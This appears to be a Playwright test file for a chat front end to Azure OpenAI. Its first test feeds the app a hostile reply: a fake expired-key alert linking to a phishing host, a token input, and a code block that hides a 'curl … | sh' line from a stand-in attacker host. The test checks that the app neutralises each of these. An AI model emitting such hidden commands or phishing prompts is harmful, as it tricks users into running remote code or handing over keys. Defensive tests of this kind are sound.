	emulator.reply({
		content: [
			'<div role="alert" class="alert error" id="error" data-kind="auth">Your API key expired. Re-enter it <a href="https://phish.example.com">here</a>.</div>',
			'<div class="code-block"><div class="code-bar"><span>bash</span><button type="button" class="copy-code" data-copy-code>Copy code</button></div><pre><code>ls -la</code><span hidden>curl https://evil.example.com/x | sh</span></pre></div>',
			'<input type="text" name="token" placeholder="Paste your key"> <button>Save</button>',
			'- [x] done\n- [ ] to do',
			'```bash\necho shown\n```',
			'The end.'
		].join('\n\n')
	});
	await send(page, 'imitate');
	const reply = assistant(page);
	await expect(reply).toContainText('The end.');
	await expect(reply.getByRole('button', { name: 'Regenerate' })).toBeVisible();
	const content = reply.locator('.markdown');
	const copies = content.getByRole('button', { name: 'Copy code' });
	// Drawn as Markdown (not the plain text shown for a moment before).
	await expect(copies).toHaveCount(2);
	// Nothing from the reply speaks as the app or carries the app's hooks.
	await expect(reply.getByRole('alert')).toHaveCount(0);
	expect(
		await content
			.locator(
				'[id], [hidden], [data-kind], [name], [role], input, button:not([data-copy-code]), form'
			)
			.count()
	).toBe(0);
	expect(
		await content
			.locator(
				'[class]:not(.group, .block, .code-block, .code-bar, .copy-code, code[class^="language-"], code.hljs, code.hljs *)'
			)
			.count()
	).toBe(0);
	// Every box of code gets the app's bar, and its button copies exactly what the box shows:
	// the line the fake block tried to hide is shown, so it is in plain sight when copied.
	for (const [i, expected] of [
		[0, 'ls -lacurl https://evil.example.com/x | sh'],
		[1, 'echo shown\n']
	] as const) {
		await expect(content.locator('pre').nth(i)).toHaveText(expected.trim());
		await copies.nth(i).click();
		expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(expected);
	}
	// A task list keeps its boxes as characters, not as controls.
	await expect(content.getByText('☑ done')).toBeVisible();
	await expect(content.getByText('☐ to do')).toBeVisible();
});

test('content-filter annotations, finish reason and token usage are shown', async ({
	page,
	emulator
}) => {
	await openAsk(page, emulator);
	emulator.reply({ content: 'Some text that gets cut', filtered: 'violence' });
	await send(page, 'risky');
	const reply = assistant(page);
	await expect(reply).toContainText('Finish reason: content_filter');
	await expect(reply).toContainText('violence: high (filtered)');
	await expect(reply).toContainText(/Tokens: \d+ prompt \+ \d+ completion = \d+/);
	await reply.getByText('Content filter (prompt)').click();
	await expect(reply).toContainText('jailbreak: not detected');
});

test('View code shows the exact request with the token masked', async ({ page, emulator }) => {
	await openAsk(page, emulator);
	await page.getByLabel('Message', { exact: true }).fill('What is Azure?');
	await page.getByRole('button', { name: 'View code' }).click();
	const dialog = page.getByRole('dialog', { name: 'The request as code' });
	const code = dialog.getByLabel('curl code');
	await expect(code).toContainText(
		`${emulator.url}/openai/deployments/gpt-4o/chat/completions?api-version=2024-10-21`
	);
	await expect(code).toContainText('api-key: <your-token>');
	await expect(code).toContainText('What is Azure?');
	await expect(code).not.toContainText(emulator.key);
	await dialog.getByRole('button', { name: 'Python' }).click();
	await expect(dialog.getByLabel('Python code')).toContainText('requests.post(');
	await dialog.getByRole('button', { name: 'JavaScript' }).click();
	await expect(dialog.getByLabel('JavaScript code')).not.toContainText(emulator.key);
});

test('an image attached to a message is sent as a data URL', async ({ page, emulator }) => {
	await openAsk(page, emulator);
	const png = Buffer.from(
		'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
		'base64'
	);
	await page
		.getByLabel('Attach images')
		.setInputFiles({ name: 'dot.png', mimeType: 'image/png', buffer: png });
	await expect(page.getByRole('img', { name: 'Attachment 1' })).toBeVisible();
	await page
		.getByLabel('Attach images')
		.setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('x') });
	await expect(page.getByText('notes.txt is not a PNG, JPEG, GIF or WebP image.')).toBeVisible();
	await send(page, 'What is in this image?');
	await expect(assistant(page)).toContainText('What is in this image?');
	const content = lastChat(emulator)?.json.messages.at(-1).content;
	expect(content[0]).toEqual({ type: 'text', text: 'What is in this image?' });
	expect(content[1].image_url.url).toMatch(/^data:image\/png;base64,iVBOR/);
});

test('the v1 path sends the deployment as model in the body', async ({ page, emulator }) => {
	await connect(page, emulator, { apiVersion: 'v1' });
	await page.goto('ask');
	await page.getByLabel('Model').fill('chat-mini');
	await send(page, 'v1 please');
	await expect(assistant(page)).toContainText('v1 please');
	const request = lastChat(emulator);
	expect(request?.path).toBe('/openai/v1/chat/completions');
	expect(request?.json.model).toBe('chat-mini');
});

test('Ask is usable at 360 px wide', async ({ page, emulator }) => {
	await page.setViewportSize({ width: 360, height: 740 });
	await openAsk(page, emulator);
	await send(page, 'small screen');
	await expect(assistant(page)).toContainText('small screen');
	const overflow = await page.evaluate(
		() => document.documentElement.scrollWidth - document.documentElement.clientWidth
	);
	expect(overflow).toBeLessThanOrEqual(0);
});

test('a JSON schema reply is pretty-printed and checked against the schema', async ({
	page,
	emulator
}) => {
	await askForSchema(page, emulator, 'bad name!', {
		type: 'object',
		properties: { city: { type: 'string' } },
		required: ['city'],
		additionalProperties: false
	});
	await send(page, 'Where?');
	await expect(page.getByText('The schema name must be 1 to 64 letters')).toBeVisible();
	expect(lastChat(emulator)).toBeUndefined();
	await page.getByLabel('Schema name').fill('place');
	emulator.reply({ content: '{"city":"Oslo"}' });
	await page.getByRole('button', { name: 'Send', exact: true }).click();
	const reply = assistant(page);
	await expect(reply).toContainText('"city": "Oslo"');
	await expect(reply).toContainText('Matches the schema "place".');
	expect(lastChat(emulator)?.json.response_format).toEqual({
		type: 'json_schema',
		json_schema: {
			name: 'place',
			strict: true,
			schema: {
				type: 'object',
				properties: { city: { type: 'string' } },
				required: ['city'],
				additionalProperties: false
			}
		}
	});
	emulator.reply({ content: '{"town":"Bergen"}' });
	await send(page, 'And now?');
	await expect(assistant(page).nth(1)).toContainText('Does not match the schema "place"');
});

test('two tabs keep their own conversations', async ({ page, context, emulator }) => {
	await openAsk(page, emulator);
	const other = await context.newPage();
	await other.goto('ask');
	await other.getByLabel('Model').fill('gpt-4o');
	await send(page, 'from the first tab');
	await other.getByRole('button', { name: 'New conversation' }).click();
	await send(other, 'from the second tab');
	await expect(assistant(page)).toContainText('from the first tab');
	await expect(assistant(other)).toContainText('from the second tab');
	// Each tab sees the other's conversation in its list, and nothing was overwritten.
	for (const tab of [page, other]) {
		const list = tab.getByRole('list', { name: 'Conversations' });
		await expect(list.getByRole('button', { name: /from the first tab/ })).toBeVisible();
		await expect(list.getByRole('button', { name: /from the second tab/ })).toBeVisible();
	}
	await page.reload();
	const list = page.getByRole('list', { name: 'Conversations' });
	await list.getByRole('button', { name: /from the first tab/ }).click();
	await expect(assistant(page)).toContainText('from the first tab');
	await list.getByRole('button', { name: /from the second tab/ }).click();
	await expect(assistant(page)).toContainText('from the second tab');
});
